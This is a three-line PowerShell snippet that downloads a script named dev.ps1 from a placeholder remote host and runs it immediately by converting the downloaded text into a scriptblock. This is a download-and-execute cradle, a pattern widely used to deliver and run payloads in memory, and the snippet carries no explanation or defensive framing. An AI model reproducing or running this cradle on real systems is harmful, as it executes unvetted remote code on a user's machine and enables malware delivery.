$u = 'https://win.api-gateway.example/dev.ps1'
$c = (New-Object Net.WebClient).DownloadString($u)
& ([scriptblock]::Create($c))
